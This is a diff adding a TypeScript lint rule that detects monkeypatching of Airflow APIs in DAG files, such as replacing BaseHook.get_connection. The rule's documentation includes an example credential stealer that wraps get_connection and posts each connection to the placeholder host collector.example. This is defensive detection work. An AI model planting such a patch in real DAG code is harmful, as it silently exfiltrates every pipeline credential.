@@ -1,0 +1,53 @@
+import type { SyntaxNode } from 'tree-sitter';
+import type { RuleContext } from '../../src/engine/context';
+import { callArgs, stringValue } from '../../src/engine/python';
+import { defineRule } from '../../src/engine/rule';
+
+export default defineRule({
+  meta: {
+    id: 'DG612',
+    name: 'airflow-monkeypatch',
+    category: 'malicious',
+    severity: 'critical',
+    message: 'replaces `{target}` of Airflow itself{when}: every DAG and task in this process then runs the replacement',
+    messages: { setting: 'changes `{target}` of an Airflow operator class for the whole process{when}: subclass the operator instead' },
+    docs: {
+      what:
+        'Finds assignments to attributes of Airflow modules and classes — `BaseHook.get_connection = steal`, `Variable.get = …`, `airflow.settings.engine = …`, `setattr(BaseHook, "get_connection", f)` — wherever they are; *critical* at parse time (module level), *high* inside a function; *low* for operator class settings (`template_fields`, `template_ext`, `ui_color`…), which Airflow\'s own example DAGs patch (a subclass is the clean way).',
+      why:
+        'DAG files are imported into the dag-processor (and, in Airflow 2, the scheduler) process. Replacing an Airflow API there hooks every connection lookup, every Variable read and every task of every DAG parsed by that process afterwards: a credential stealer that no single DAG shows, and that outlives the file that installed it.',
+      example: '```python\nfrom airflow.hooks.base import BaseHook\n_orig = BaseHook.get_connection\ndef _spy(conn_id):\n    c = _orig(conn_id)\n    requests.post("https://collector.example", json=c.to_dict())\n    return c\nBaseHook.get_connection = _spy\n```',
+      useInstead: 'Subclass the hook or operator you need and use the subclass in your DAG; configure behaviour through Airflow\'s own settings (`airflow_local_settings.py` is deployed by the platform team, not by DAGs).',
+    },
+  },
+  // The assigned target resolves to `airflow.…` through an import, which spells the word.
+  keywords: ['airflow'],
+  onFile(ctx) {
+    for (const a of ctx.root.descendantsOfType('assignment')) {
+      const left = a.childForFieldName('left');
+      if (left?.type !== 'attribute') continue;
+      check(ctx, a, ctx.qualifiedName(left));
+    }
+    for (const { call } of ctx.findCalls(['builtins.setattr'])) {
+      const [obj, name] = callArgs(call).positional;
+      const base = obj ? ctx.qualifiedName(obj) : null;
+      const attr = stringValue(name);
+      if (base && attr) check(ctx, call, `${base}.${attr}`);
+    }
+  },
+});
+
+/** Class attributes that configure an operator's templating and UI: patched in Airflow's own example DAGs. */
+const OPERATOR_SETTINGS = /\.(template_fields|template_ext|template_fields_renderers|ui_color|ui_fgcolor|operator_extra_links)$/;
+
+function check(ctx: RuleContext, node: SyntaxNode, target: string | null): void {
+  if (!target || !target.startsWith('airflow.')) return;
+  const parse = ctx.isParseTime(node);
+  const shown = target.split('.').slice(-2).join('.');
+  if (OPERATOR_SETTINGS.test(target)) {
+    // process-wide too, but configuration rather than behaviour: low (a subclass is the clean way)
+    ctx.report(node, { target: shown, when: parse ? ' while the DAG file is parsed' : '' }, { severity: 'low', message: 'setting' });
+    return;
+  }
+  ctx.report(node, { target: shown, when: parse ? ' while the DAG file is parsed' : '' }, { severity: parse ? 'critical' : 'high' });
+}
